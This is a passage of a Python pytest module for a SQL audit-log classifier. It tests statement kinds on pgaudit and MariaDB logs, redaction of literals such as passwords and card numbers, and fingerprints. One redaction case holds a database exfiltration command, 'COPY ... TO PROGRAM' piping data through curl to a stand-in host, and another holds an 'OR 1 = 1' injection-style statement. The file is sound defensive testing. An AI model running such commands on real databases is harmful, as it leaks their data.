    (PGAUDIT_SQL, 221, "UPDATE", ()),  # WITH ... UPDATE test3 ... FROM cte WHERE ...
    (PGAUDIT_SQL, 233, "SELECT", ()),
    (PGAUDIT_SQL, 283, "INSERT", ()),
    (PGAUDIT_SQL, 301, "UPDATE", ()),  # ... where name = 'bar'
    (PGAUDIT_SQL, 311, "PREPARE", ()),
    (PGAUDIT_SQL, 314, "EXECUTE", ()),
    (PGAUDIT_SQL, 316, "DEALLOCATE", ()),
    (PGAUDIT_SQL, 454, "SELECT", ()),  # ... FOR UPDATE
    (PGAUDIT_SQL, 462, "SELECT", ()),  # ... FOR UPDATE
    (PGAUDIT_SQL, 470, "UPDATE", ()),  # ... where password = 'HASH2'
    (PGAUDIT_SQL, 504, "DO", ()),  # raise notice
    (PGAUDIT_SQL, 511, "CREATE SCHEMA", ()),
    (PGAUDIT_SQL, 515, "COPY", ()),  # TO stdout
    (PGAUDIT_SQL, 525, "COPY", ()),  # from stdin
    (PGAUDIT_SQL, 541, "BEGIN", ()),
    (PGAUDIT_SQL, 543, "DECLARE", ()),
    (PGAUDIT_SQL, 552, "FETCH", ()),
    (PGAUDIT_SQL, 553, "CLOSE", ()),
    (PGAUDIT_SQL, 554, "COMMIT", ()),
    (PGAUDIT_SQL, 592, "ANALYZE", ()),
    (PGAUDIT_SQL, 597, "GRANT", ()),  # GRANT SELECT ... TO PUBLIC
    (PGAUDIT_SQL, 605, "SELECT", ()),
    (PGAUDIT_SQL, 611, "DO", ()),  # SELECT ... INTO inside a DO block
    (PGAUDIT_SQL, 624, "EXPLAIN", ()),
    (PGAUDIT_SQL, 635, "DO", ()),  # FOR ... LOOP INSERT
    (PGAUDIT_SQL, 659, "DO", ()),  # CREATE TABLE inside a DO block
    (PGAUDIT_SQL, 678, "ALTER TABLE", ()),  # ADD COLUMN
    (PGAUDIT_SQL, 688, "CREATE SCHEMA", ()),
    (PGAUDIT_SQL, 706, "CREATE AGGREGATE", ()),
    (PGAUDIT_SQL, 707, "ALTER AGGREGATE", ()),  # RENAME TO of an aggregate, not a table
    (PGAUDIT_SQL, 732, "DROP ROLE", ()),
    (PGAUDIT_SQL, 736, "CREATE FUNCTION", ()),
    (PGAUDIT_SQL, 750, "END", ()),
    (PGAUDIT_SQL, 795, "DELETE", ()),  # delete from bar where col = 1
    (PGAUDIT_SQL, 803, "GRANT", ()),  # GRANT regress_user1 TO regress_user2
    (PGAUDIT_SQL, 804, "REVOKE", ()),
    (PGAUDIT_SQL, 822, "CREATE FUNCTION", ()),  # body has UPDATE without WHERE: not run here
    (PGAUDIT_SQL, 841, "INSERT", ()),
    (PGAUDIT_SQL, 869, "SET", ()),  # SET ROLE
    (PGAUDIT_SQL, 871, "SET", ()),  # SET search_path
    (PGAUDIT_SQL, 875, "VACUUM", ()),
    (PGAUDIT_SQL, 876, "RESET", ()),
    (PGAUDIT_SQL, 892, "SET", ()),  # pgaudit.log = 'ALL, -MISC, MISC_SET'
    (PGAUDIT_SQL, 902, "DROP ROLE", ()),
    (PGAUDIT_SQL, 906, "CREATE TABLE", ()),
    (PGAUDIT_SQL, 912, "CREATE INDEX", ()),
    (PGAUDIT_SQL, 994, "UPDATE", ()),  # ... WHERE id > 0
    (PGAUDIT_SQL, 1026, "INSERT", ()),
    (PGAUDIT_SQL, 1037, "UPDATE", ()),
    (PGAUDIT_SQL, 1050, "DELETE", ()),  # ... WHERE id > 0
    (PGAUDIT_SQL, 1105, "SET", ()),  # pgaudit.log = 'read, write'
    (PGAUDIT_SQL, 1135, "UPDATE", ()),
    (PGAUDIT_SQL, 1413, "DROP ROLE", ()),
    (PGAUDIT_SQL, 1561, "DROP ROLE", ()),
    (PGAUDIT_SQL, 1626, "SET", ()),  # pgaudit.log = 'all,-misc_set'
    (PGAUDIT_SQL, 1653, "SET", ()),
    (PGAUDIT_SQL, 1661, "INSERT", ()),
    (PGAUDIT_SQL, 1687, "SELECT", ()),  # GRAPH_TABLE
    (PGAUDIT_SQL, 1696, "SET", ()),
    (PGAUDIT_SQL, 1728, "DROP USER", ()),
    (PGAUDIT_SQL, 1729, "DROP USER", ()),
    (PGAUDIT_SQL, 1730, "DROP ROLE", ()),
    (PGAUDIT_SQL, 1732, "RESET", ()),
    # MariaDB on-premises server_audit: every QUERY record
    (MARIADB_ONPREM, 2, "SELECT", ()),
    (MARIADB_ONPREM, 3, "CREATE DATABASE", ()),
    (MARIADB_ONPREM, 4, "SELECT", ()),
    (MARIADB_ONPREM, 5, "CREATE DATABASE", ()),
    (MARIADB_ONPREM, 6, "SELECT", ()),
    (MARIADB_ONPREM, 7, "SHOW", ()),
    (MARIADB_ONPREM, 8, "SHOW", ()),
    (MARIADB_ONPREM, 10, "CREATE TABLE", ()),
    (MARIADB_ONPREM, 11, "INSERT", ()),  # retcode 1064, still an INSERT
    (MARIADB_ONPREM, 13, "INSERT", ()),
    (MARIADB_ONPREM, 14, "SELECT", ()),
    (MARIADB_ONPREM, 16, "SELECT", ()),
    (MARIADB_ONPREM, 17, "CREATE PROCEDURE", ()),
    (MARIADB_ONPREM, 18, "CREATE PROCEDURE", ()),
    (MARIADB_ONPREM, 19, "END", ()),
    (MARIADB_ONPREM, 21, "CREATE PROCEDURE", ()),
    (MARIADB_ONPREM, 22, None, ()),  # not SQL (retcode 1064)
    (MARIADB_ONPREM, 23, None, ()),  # not SQL (retcode 1064)
    (MARIADB_ONPREM, 24, None, ()),  # "exec ..." is not MariaDB SQL (retcode 1064)
    (MARIADB_ONPREM, 28, "SELECT", ()),
    (MARIADB_ONPREM, 29, "CALL", ()),
    (MARIADB_ONPREM, 32, "SELECT", ()),
    (MARIADB_ONPREM, 33, "CALL", ()),
    # MariaDB RDS server_audit: every QUERY record
    (MARIADB_RDS, 1, "CREATE TABLE", ()),
    (MARIADB_RDS, 2, "INSERT", ()),
    *[(MARIADB_RDS, n, "SELECT", ()) for n in range(3, 14)],
]


def _corpus_params() -> list[Any]:
    out = []
    for case in CORPUS:
        rel, line, _k, _c = _values(case)
        marks = case.marks if hasattr(case, "marks") else ()
        out.append(pytest.param(*_values(case), marks=marks,
                                id=f"{rel.rsplit('/', 1)[-1]}:{line}"))
    return out


@pytest.mark.parametrize("rel,line,kind,categories", _corpus_params())
def test_corpus(corpus: Path, rel: str, line: int, kind: str | None,
                categories: tuple[str, ...]) -> None:
    stmt = statement_at(corpus, rel, line)
    v = classify_one(stmt, CORPUS_DIALECT[rel])
    if kind is not None:
        assert v.kind == kind
    assert v.categories == categories


def test_corpus_covers_enough_statements() -> None:
    keys = [(_values(c)[0], _values(c)[1]) for c in CORPUS]
    assert len(keys) == len(set(keys)), "a corpus statement is listed twice"
    assert len(keys) >= 50


def test_mariadb_records_are_all_read(corpus: Path) -> None:
    # every record of the files is read (counted independently: lines starting with a
    # "YYYYMMDD HH:MM:SS," timestamp); QUERY is one operation among several
    for rel, total in ((MARIADB_ONPREM, 36), (MARIADB_RDS, 13)):
        path = corpus / rel
        need(path.is_file(), f"corpus file not found: {path}")
        recs = mariadb_records(path.read_text(encoding="utf-8"))
        assert len(recs) == total
        assert {op for _, op, _ in recs} <= {"CONNECT", "QUERY", "READ", "WRITE", "CREATE",
                                             "DISCONNECT"}


# =============================================================================
# 3. Redaction and fingerprints
# =============================================================================

# (dialect, sql, literal values that must not survive in ``redacted``)
REDACTION: list[Any] = [
    (PG, "DELETE FROM users WHERE email = 'alice@example.com' AND id = 424242",
     ["alice@example.com", "alice", "424242"]),
    (PG, "INSERT INTO cards (pan, cvv) VALUES ('4111111111111111', 737)", ["4111111111111111", "737"]),
    (PG, "UPDATE users SET ssn = '078-05-1120' WHERE id = 31337", ["078-05-1120", "31337"]),
    (PG, "CREATE USER bob PASSWORD 'hunter2'", ["hunter2"]),
    (PG, "ALTER ROLE bob WITH PASSWORD 'Tr0ub4dor&3'", ["Tr0ub4dor"]),
    (PG, "SELECT 'it''s private'", ["private"]),
    (PG, "SELECT * FROM t WHERE token = E'sk_live_\\x41bc\\'q'", ["sk_live_", "x41bc"]),
    (PG, "SELECT $$top secret body$$", ["top secret"]),
    (PG, "SELECT $tag$classified$tag$", ["classified"]),
    (PG, "SELECT 3.14159, 6.02e23, -273", ["3.14159", "6.02e23", "273"]),
    (PG, "SELECT * FROM t WHERE created > TIMESTAMP '2031-07-04 12:00:00'", ["2031-07-04"]),
    (PG, "SELECT B'10101', X'DEADBEEF'", ["10101", "DEADBEEF"]),
    (PG, "SELECT set_config('app.api_key', 'k-9f8e7d', false)", ["app.api_key", "k-9f8e7d"]),
    (PG, "SELECT * FROM t WHERE id IN (8675309, 5551212)", ["8675309", "5551212"]),
    (PG, "COPY t TO PROGRAM 'curl -d @- http://exfil.example'", ["exfil.example", "curl"]),
    (PG, "SELECT * FROM t WHERE a = 'x' || 'confidential'", ["confidential"]),
    (MY, "SELECT * FROM users WHERE email = \"x@y.z\"", ["x@y.z"]),
    (MY, "INSERT INTO t VALUES ('O\\'Brien', \"Dublin\")", ["Brien", "Dublin"]),
    (MY, "SELECT * FROM users WHERE name = 'it\\'s Ramanujan'", ["Ramanujan"]),
    (MY, "SELECT 'a\\\\', 'tail-secret'", ["tail-secret"]),
    (MY, "CREATE USER 'svc'@'%' IDENTIFIED BY 'S3cr3t!pw'", ["S3cr3t"]),
    (MY, "SET PASSWORD FOR 'bob'@'%' = 'n3wpass'", ["n3wpass"]),
    (MY, "SELECT X'4D7953514C'", ["4D7953514C"]),
    (MY, "SELECT 0xDEADBEEF", ["DEADBEEF"]),
    (MY, "SELECT _utf8mb4'hidden value'", ["hidden"]),
    (MY, "UPDATE accounts SET balance = 1234.56 WHERE acct = 99887766", ["1234.56", "99887766"]),
    (MY, "SELECT * FROM t WHERE id = 4242 LIMIT 7777", ["4242", "7777"]),
]


@pytest.mark.parametrize(
    "dialect,sql,literals",
    [pytest.param(*_values(c), marks=getattr(c, "marks", ()),
                  id=f"redact-{_values(c)[0][:2]}{n:02d}-{_short(_values(c)[1])}")
     for n, c in enumerate(REDACTION, 1)])
def test_redacted_has_no_literal(dialect: str, sql: str, literals: list[str]) -> None:
    for v in classify(sql, dialect):
        for lit in literals:
            assert lit.lower() not in v.redacted.lower(), (lit, v.redacted)


# identifiers are not literals: they stay readable
KEPT: list[tuple[str, str, list[str]]] = [
    (PG, 'DELETE FROM "Users" WHERE "Email" = \'x@y.z\'', ["Users", "Email"]),
    (PG, "DROP TABLE public.orders_backup", ["orders_backup"]),
    (MY, "DELETE FROM `Users` WHERE `Email` = 'x@y.z'", ["Users", "Email"]),
]


@pytest.mark.parametrize("dialect,sql,names", KEPT,
                         ids=[f"kept-{d[:2]}-{_short(s)}" for d, s, _ in KEPT])
def test_redacted_keeps_identifiers(dialect: str, sql: str, names: list[str]) -> None:
    (v,) = classify(sql, dialect)
    for name in names:
        assert name in v.redacted
    assert "x@y.z" not in v.redacted


# (dialect, a, b): the same statement with other literal values
SAME_SHAPE: list[Any] = [
    (PG, "SELECT * FROM t WHERE id = 1", "SELECT * FROM t WHERE id = 987654"),
    (PG, "DELETE FROM users WHERE email = 'alice@example.com'",
     "DELETE FROM users WHERE email = 'bob@example.org'"),
    (PG, "INSERT INTO t (a, b) VALUES (1, 'x')", "INSERT INTO t (a, b) VALUES (2, 'yy')"),
    (PG, "SELECT $$a$$", "SELECT $$bbb$$"),
    (PG, "CREATE USER bob PASSWORD 'a'", "CREATE USER bob PASSWORD 'b'"),
    (PG, "UPDATE t SET price = 9.99 WHERE sku = 'A-1'", "UPDATE t SET price = 12.50 WHERE sku = 'B-22'"),
    (PG, "SELECT * FROM t WHERE note = 'it''s'", "SELECT * FROM t WHERE note = 'plain'"),
    (MY, "SELECT * FROM users WHERE email = \"x@y.z\"", "SELECT * FROM users WHERE email = \"a@b.c\""),
    (MY, "SELECT * FROM t WHERE name = 'it\\'s'", "SELECT * FROM t WHERE name = 'plain'"),
    (MY, "INSERT INTO t VALUES (1, 'a')", "INSERT INTO t VALUES (2, 'b')"),
    (MY, "SET GLOBAL max_connections = 100", "SET GLOBAL max_connections = 200"),
    (MY, "CREATE USER 'u'@'%' IDENTIFIED BY 'p1'", "CREATE USER 'u'@'%' IDENTIFIED BY 'p2'"),
    (MY, "SELECT * FROM t LIMIT 10", "SELECT * FROM t LIMIT 20"),
    (MY, "DELETE FROM t WHERE id = 1", "DELETE FROM t WHERE id = 2"),
]


@pytest.mark.parametrize(
    "dialect,a,b",
    [pytest.param(*_values(c), marks=getattr(c, "marks", ()),
                  id=f"fp-{_values(c)[0][:2]}{n:02d}-{_short(_values(c)[1])}")
     for n, c in enumerate(SAME_SHAPE, 1)])
def test_fingerprint_ignores_literal_values(dialect: str, a: str, b: str) -> None:
    (va,) = classify(a, dialect)
    (vb,) = classify(b, dialect)
    assert va.redacted == vb.redacted
    assert va.fingerprint == vb.fingerprint


OTHER_SHAPE: list[tuple[str, str, str]] = [
    (PG, "DELETE FROM users WHERE id = 1", "DELETE FROM users"),
    (PG, "SELECT * FROM a WHERE id = 1", "SELECT * FROM b WHERE id = 1"),
    (MY, "DELETE FROM t WHERE id = 1", "DELETE FROM t WHERE id = 1 OR 1 = 1"),
]


@pytest.mark.parametrize("dialect,a,b", OTHER_SHAPE,
                         ids=[f"fpdiff-{d[:2]}-{_short(a)}" for d, a, _ in OTHER_SHAPE])
def test_fingerprint_differs_for_other_statements(dialect: str, a: str, b: str) -> None:
    assert classify_one(a, dialect).fingerprint != classify_one(b, dialect).fingerprint


# real statements: literals gone, and statements that differ only in literals share a shape
CORPUS_REDACTION: list[tuple[str, int, list[str]]] = [
    (PGAUDIT_SQL, 61, ["md565cb1da342495ea6bb0418a6e5718c38"]),
    (PGAUDIT_SQL, 365, ["HASH1", "blah, blah"]),
    (PGAUDIT_SQL, 1074, ["HASH3", "regress_user2"]),
    (MARIADB_ONPREM, 13, ["Redis", "Brijesh"]),
    (MARIADB_ONPREM, 28, ["Marcus", "latin1_swedish_ci"]),
    (MARIADB_RDS, 2, ["Monika", "Arora", "Geetika", "Chauhan", "100000", "14-02-20"]),
    (MARIADB_RDS, 13, ["Number of Workers"]),
]


@pytest.mark.parametrize("rel,line,literals", CORPUS_REDACTION,
                         ids=[f"{r.rsplit('/', 1)[-1]}:{n}" for r, n, _ in CORPUS_REDACTION])
def test_corpus_redaction(corpus: Path, rel: str, line: int, literals: list[str]) -> None:
    v = classify_one(statement_at(corpus, rel, line), CORPUS_DIALECT[rel])
    for lit in literals:
        assert lit.lower() not in v.redacted.lower(), (lit, v.redacted)


CORPUS_SAME_SHAPE: list[tuple[str, int, int]] = [
    (PGAUDIT_SQL, 1074, 1076),  # INSERT INTO account ... VALUES (1, 'regress_user2', 'HASH3', ...)
    (PGAUDIT_SQL, 396, 1093),  # UPDATE account SET description = 'yada, yada' / 'yada, yada1'
    (PGAUDIT_SQL, 314, 325),  # EXECUTE testinsert(1, '***') / (2, '***')
    (PGAUDIT_SQL, 967, 969),  # INSERT INTO test2 ... VALUES (1, 'a') / (2, 'b')
    (MARIADB_ONPREM, 29, 33),
]


@pytest.mark.parametrize("rel,a,b", CORPUS_SAME_SHAPE,
                         ids=[f"{r.rsplit('/', 1)[-1]}:{a}={b}" for r, a, b in CORPUS_SAME_SHAPE])
def test_corpus_fingerprint_ignores_literal_values(corpus: Path, rel: str, a: int, b: int) -> None:
    va = classify_one(statement_at(corpus, rel, a), CORPUS_DIALECT[rel])
    vb = classify_one(statement_at(corpus, rel, b), CORPUS_DIALECT[rel])
    assert va.fingerprint == vb.fingerprint
